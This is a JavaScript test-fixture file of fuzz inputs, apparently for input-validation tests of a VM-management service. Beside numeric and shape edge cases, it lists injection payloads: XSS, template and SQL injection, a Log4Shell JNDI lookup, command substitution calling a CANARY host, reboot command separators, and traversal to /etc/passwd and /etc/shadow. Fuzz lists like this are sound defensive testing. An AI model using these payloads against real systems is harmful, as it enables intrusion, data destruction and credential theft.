// What is put into every field: numbers, shapes, and texts that have hurt somebody before.

/** Case A5. Those beyond 2^53 are written as they are, which JSON.stringify cannot. */
export const NUMBERS = [-1, 0, 2 ** 31, -(2 ** 31) - 1, BigInt("9223372036854775809"), -BigInt("9223372036854775809")];

/** Case A6. */
export const FRACTIONS = [1e308, -1e308, 1.5, 0.1, 1e-300];

/** Case A7: a value of every other shape. */
export const SHAPES = [[], {}, [[]], { $ne: 1 }, [{ a: 1 }], true, 7, "7"];

/** Cases N41 to N59, as [id, title, texts]. @type {[string, string, string[]][]} */
export const TEXTS = [
  ["N41", "script tag", ["<script>alert(1)</script>", "</script><svg onload=alert(1)>"]],
  ["N42", "attribute breakout", ['"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)"]],
  ["N43", "template expressions", ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>"]],
  ["N44", "look-up in a log line", ["${jndi:ldap://CANARY/a}", "${${lower:j}ndi:rmi://CANARY/a}"]],
  ["N45", "SQL", ["'; drop table vm; --", "' or '1'='1", "1); select pg_sleep(9); --"]],
  ["N46", "command substitution", ["$(id)", "$(curl http://CANARY/)"]],
  ["N47", "backticks", ["`id`"]],
  ["N48", "command separator", [";reboot", "|reboot", "&& reboot"]],
  ["N49", "leading dash", ["-name", "--version"]],
  ["N50", "QEMU option separator", ["vm,process=evil", "a,file=/etc/shadow"]],
  ["N51", "equals sign", ["a=b"]],
  ["N52", "line breaks and header injection", ["a\nb", "a\rb", "a\r\nSet-Cookie: x=1", "%0d%0aSet-Cookie: x=1"]],
  ["N53", "NUL", ["a\u0000b", "\u0000"]],
  ["N54", "path", ["../../x", "/etc/passwd", "..\\x", "....//....//x"]],
  ["N55", "length", ["x".repeat(64), "x".repeat(255), "x".repeat(256), "x".repeat(4_096), "x".repeat(4_097)]],
  ["N56", "direction override, zero width, look-alikes", ["\u202egnp.exe", "a\u200bb", "аdmin", "\ufeffx"]],
  ["N58", "emoji and four-byte characters", ["🐚", "𝒜toll"]],
  ["N59", "reserved and empty", ["CON", ".", "..", "", " ", "\t"]],
];

/** JSON that may hold whole numbers beyond 2^53. @param {unknown} value */
export function toJson(value) {
  const text = JSON.stringify(value, (_, inner) => (typeof inner === "bigint" ? `#big${inner}#` : inner));
  return text.replace(/"#big(-?\d+)#"/g, "$1");
}
